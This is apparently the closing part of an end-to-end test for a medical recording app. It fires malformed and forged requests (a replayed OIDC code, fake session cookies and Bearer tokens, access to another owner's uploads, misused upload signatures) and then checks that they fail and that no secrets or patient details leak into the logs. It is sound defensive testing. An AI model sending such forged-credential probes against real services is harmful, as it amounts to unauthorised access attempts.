    await page.goto(`${server.url}/oidc/signin?returnTo=${encodeURIComponent('/recordings?patient=Meier')}`);
    await cookies();
    await page.getByRole('button', { name: 'Cancel' }).click();
    await page.goto(`${server.url}/oidc/callback?code=0ldC0de0fLastWeek&state=Meier`);
    secrets.add('0ldC0de0fLastWeek');
    const app = await signIn(page, server.url, user);
    await cookies();
    await app.record();
    await writeTitle(page);
    await app.waitForSaved(2_000);
    await app.stop();
    await waitForArchive(server.dataDir);
    const onDevice = await databasesIn(page);
    await signOutOn(page, user);

    // What goes wrong: by mistake, and on purpose.
    const phone = await phoneOf(server.url, 'demo-nurse');
    for (const pair of phone.jar.cookiesFor(`${server.url}/api/uploads`).split('; ')) secrets.add(pair.slice(pair.indexOf('=') + 1));
    const recording = plainRecording(phone.session.ownerId);
    const answers = [
      await phone.ask('POST', '/api/uploads', '{"title": "Meier, Influenza'),
      await phone.ask('POST', '/api/uploads', { ownerId: 'Meier', recordingId: 'Influenza' }),
      await phone.ask('POST', `/api/uploads/Meier/complete`, { title: 'Influenza' }),
      await phone.ask('GET', `/api/uploads/${recording.recordingId}?ownerId=Meier&note=Influenza`),
      await phone.ask('GET', '/api/Meier?nurse@example.org'),
      await phone.ask('GET', '/api/session', undefined, { Cookie: 'sid=Meier', Authorization: 'Bearer Influenza', 'User-Agent': 'Meier' }),
      await phone.ask('POST', '/csp-reports', { 'csp-report': { 'document-uri': 'Meier', 'blocked-uri': 'Influenza', 'script-sample': 'Meier', 'effective-directive': 'Meier' } }),
      await complete(phone, recording, { appVersion: 'Meier', texts: [{ kind: 'title', version: 1, iv: 'Meier', sealed: 'Influenza', wrappedKeys: [] }] as never }),
      await fetch(`${server.url}/ingest/Meier/Influenza?X-Amz-Signature=Meier`, { method: 'PUT', body: 'Influenza' }),
    ];
    expect(answers.filter(({ status }) => status >= 400).length).toBeGreaterThanOrEqual(7);
    // The signatures that it was given, used wrongly.
    expect(await put(server.url, phone, recording, Buffer.from('Meier'))).toBeGreaterThanOrEqual(400);
    await server.stop();

    const output = server.output();
    for (const event of ['server_started', 'api_request', 'sign_in_failed', 'recording_archived', 'csp_violation']) expect(output).toContain(`"event":"${event}"`);
    expect(secrets.size).toBeGreaterThan(12);
    const told = [...secrets].filter((secret) => output.includes(secret) || output.includes(encodeURIComponent(secret)));
    expect(told).toEqual([]);
    expect(output).not.toMatch(/eyJ[\w-]{10,}|[\w.-]+@[\w-]+\.\w+/);
    // The device's own log, which it shows to support.
    const lines = onDevice.match(/\{"timestamp":[^\n]*?"event":"[a-z_]+"[^}]*\}/g) ?? [];
    expect(lines.length).toBeGreaterThan(3);
    expect(lines.join('\n')).not.toMatch(/@|doctor|Meier|Influenza/);
  });
});
